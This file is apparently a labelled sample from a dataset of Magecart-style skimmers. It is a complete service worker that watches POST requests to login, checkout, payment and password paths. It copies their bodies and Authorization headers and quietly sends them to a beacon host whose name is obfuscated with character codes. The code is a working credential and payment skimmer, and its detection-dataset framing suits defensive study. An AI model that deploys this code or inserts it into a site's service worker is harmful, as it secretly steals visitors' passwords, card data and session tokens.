// source: an offline kit's service worker that copies login and checkout POST bodies and Authorization
// headers to another host (seventh held-out set, 2026; the Magecart service-worker variants)
const BEACON = 'https://' + String.fromCharCode(99, 100, 110, 46, 101, 120, 97, 109, 112, 108, 101) + '/c';
const SENSITIVE = /login|signin|checkout|payment|password/i;

function track(data) {
  fetch(BEACON, { method: 'POST', mode: 'no-cors', keepalive: true, body: JSON.stringify(data) }).catch(() => {});
}

self.addEventListener('fetch', (e) => {
  const req = e.request;
  const url = new URL(req.url);
  if (req.method === 'POST' && SENSITIVE.test(url.pathname)) {
    req.clone().text().then((body) => track({ p: url.pathname, b: body, a: req.headers.get('authorization') }));
  }
});
